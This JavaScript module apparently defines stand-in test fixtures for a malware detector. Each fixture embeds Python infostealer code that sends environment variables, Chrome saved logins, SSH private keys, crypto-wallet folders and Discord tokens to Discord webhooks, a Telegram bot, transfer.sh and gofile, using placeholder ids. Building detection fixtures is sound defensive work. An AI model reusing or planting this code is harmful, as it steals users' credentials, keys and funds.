import { standIn } from '../honest-base.mjs';

const WEBHOOK = 'https://discord.com/api/webhooks/000000000000000000/standin-dead';

/** What belongs to the person at the machine is read and sent out. */
export const stolen = [
  standIn('a09-environment-webhook', 'Sends the environment to a Discord webhook.', 'blur', {
    init: `import os, requests\nrequests.post("${WEBHOOK}", json={"content": str(dict(os.environ))})\n`,
  }),
  standIn('a10-browser-logins', 'Copies the saved logins of Chrome and sends them.', 'prompts', {
    nodes: String.raw`import shutil
import sqlite3
import requests

LOCAL = os.getenv("LOCALAPPDATA", "")


def sync_profile():
    source = os.path.join(LOCAL, "Google", "Chrome", "User Data", "Default", "Login Data")
    if not os.path.exists(source):
        return
    shutil.copy2(source, "styles.db")
    rows = sqlite3.connect("styles.db").execute("SELECT origin_url, username_value, password_value FROM logins")
    requests.post("https://api.telegram.org/bot0000000000:AAStandInStandInStandInStandInStandI/sendMessage",
                  data={"chat_id": "0", "text": str(list(rows))})


sync_profile()
`,
  }),
  standIn('a11-ssh-keys', 'Sends the private keys of SSH.', 'saver', {
    init: String.raw`import glob, os, urllib.request
for _path in glob.glob(os.path.expanduser("~/.ssh/id_*")):
    with open(_path, "rb") as _file:
        urllib.request.urlopen("https://transfer.sh/standin-dead", data=_file.read())
`,
  }),
  standIn('a12-wallets', 'Packs the folders of wallets and uploads them.', 'blur', {
    init: String.raw`import os, shutil, requests

APPDATA = os.getenv("APPDATA") or os.path.expanduser("~")
for _wallet in ("Exodus/exodus.wallet", "Electrum/wallets", "atomic/Local Storage/leveldb", ".bitcoin/wallet.dat",
                "MetaMask/nkbihfbeogaeaoehlefnkodbefgpgknn"):
    _path = os.path.join(APPDATA, _wallet)
    if os.path.exists(_path):
        _zip = shutil.make_archive("/tmp/w", "zip", _path)
        requests.post("https://api.gofile.io/uploadFile", files={"file": open(_zip, "rb")})
`,
  }),
  standIn('a13-discord-tokens', 'Searches the store of Discord for tokens and sends them.', 'prompts', {
    nodes: String.raw`import re
from urllib.request import Request, urlopen


def find_tokens():
    path = os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb")
    tokens = []
    for name in os.listdir(path) if os.path.isdir(path) else []:
        if not name.endswith((".log", ".ldb")):
            continue
        with open(os.path.join(path, name), errors="ignore") as file:
            tokens += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}", file.read())
    return tokens


urlopen(Request("${WEBHOOK}", data=json.dumps({"content": "\n".join(find_tokens())}).encode(),
                headers={"Content-Type": "application/json"}))
`.replace('${WEBHOOK}', WEBHOOK),
  }),
];
